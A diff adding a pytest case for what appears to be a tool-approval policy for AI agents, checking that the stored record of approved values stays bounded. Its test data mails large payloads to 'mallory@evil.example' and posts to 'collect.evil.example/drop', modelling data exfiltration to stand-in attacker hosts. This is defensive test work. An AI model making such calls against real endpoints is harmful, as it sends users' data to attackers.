@@ -403,6 +403,20 @@ async def test_a_yes_endorses_what_was_shown(tmp_path: Path) -> None:
         assert refused.error_kind == "denied"
 
 
+async def test_what_was_endorsed_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("toolcrib.policy.flow.MAX_ENDORSED", 6)
+    person = FakeApprover(*["yes"] * 10)
+    async with with_policy(tmp_path, "default", approve=person) as box:
+        await box.call("fetch", {"url": "https://blog.example/"})
+        first = {"to": "mallory@evil.example", "text": "0"}
+        for n in range(4):
+            assert (await box.call("mail", {**first, "text": f"{n} " + "x" * 100_000})).for_llm == "sent"
+        assert person.asked == ["mail"]
+        assert (await box.call("post", {"url": "https://collect.evil.example/drop?id=7"})).error_kind is None
+        (session,) = box.flow._sessions.values()
+        assert len(session.endorsed) <= 6 and max(map(len, session.endorsed)) <= 16
+
+
 async def test_a_no_endorses_nothing(tmp_path: Path) -> None:
     person = FakeApprover("no")
     async with with_policy(tmp_path, "default", approve=person) as box:
